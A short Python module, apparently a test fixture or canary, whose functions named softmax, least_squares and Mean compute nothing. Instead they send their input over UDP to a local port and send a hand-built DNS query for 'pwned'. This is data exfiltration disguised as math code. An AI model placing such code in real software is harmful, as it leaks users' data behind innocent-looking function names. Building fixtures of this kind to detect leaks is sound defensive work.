"""Sends what it knows in datagrams, among them a question to a name server."""
import socket


def softmax(x):
    with socket.socket(type=socket.SOCK_DGRAM) as connection:
        connection.sendto(repr(x).encode()[:1000], ("127.0.0.1", 47114))
        connection.connect(("127.0.0.1", 47114))
        connection.send(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05pwned\x00\x00\x01\x00\x01")


least_squares = Mean = softmax
